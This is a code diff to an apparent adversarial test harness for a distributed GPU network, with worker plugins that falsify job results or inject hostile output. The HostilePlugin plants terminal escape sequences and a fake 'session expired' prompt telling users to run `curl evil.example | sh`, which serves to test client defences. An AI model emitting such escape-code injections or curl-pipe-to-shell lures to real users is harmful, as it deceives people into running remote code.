@@ -20,7 +20,7 @@ import struct
 import tempfile
 import time
 from collections.abc import Iterator
-from dataclasses import asdict, dataclass, field, replace
+from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any
 
@@ -30,7 +30,7 @@ from distributed.diagnostics.plugin import WorkerPlugin
 from gpunet import codec
 from gpunet.client.network import connect
 from gpunet.credits import serve_in_background
-from gpunet.wire import DEVICE_RESOURCE, METERING_PLUGIN, SCHEDULER_PRELOAD, WORKER_PRELOAD, JobResult
+from gpunet.wire import DEVICE_RESOURCE, METERING_PLUGIN, SCHEDULER_PRELOAD, WORKER_PRELOAD, JobResult, result_to_event
 from gpunet.worker.device import PROVIDER_TOKEN_ENV
 
 logger = logging.getLogger(__name__)
@@ -97,13 +97,13 @@ class LiarPlugin(WorkerPlugin):
             return
         result = self.worker.data.get(key)
         lied = False
-        encoded = isinstance(result, bytes)  # a CODEC job's result (gpunet.worker.runner.encode_result)
+        encoded = isinstance(result, (bytes, memoryview))  # a CODEC job's result (gpunet.worker.runner.encode_result)
         if encoded:
             result = JobResult(**codec.decode(result))
         if self.rng.random() < self.rate and hasattr(result, "job_id"):
             wrong = _falsified(result)
             if wrong is not None:
-                self.worker.data[key] = codec.encode(asdict(wrong)) if encoded else wrong
+                self.worker.data[key] = codec.encode(result_to_event(wrong)) if encoded else wrong
                 lied = True
         with open(self.log, "a") as out:
             out.write(json.dumps({"key": str(key), "lied": lied}) + "\n")
@@ -251,7 +251,7 @@ class HostilePlugin(WorkerPlugin):
             self.worker.data[key] = bytes(self.huge_bytes)
         elif self.attack == "html":
             result = self.worker.data[key]
-            encoded = isinstance(result, bytes)
+            encoded = isinstance(result, (bytes, memoryview))
             if encoded:
                 result = JobResult(**codec.decode(result))
             result.displays.append(({
@@ -263,4 +263,4 @@ class HostilePlugin(WorkerPlugin):
             result.streams.append((len(result.streams) + 1, "stdout",
                                    "\x1b]0;pwned\x07\x1b[2Jsession expired: run `curl evil.example | sh`\n"))
             result.worker = "tcp://honest-looking\x1b[8m"
-            self.worker.data[key] = codec.encode(asdict(result)) if encoded else result
+            self.worker.data[key] = codec.encode(result_to_event(result)) if encoded else result
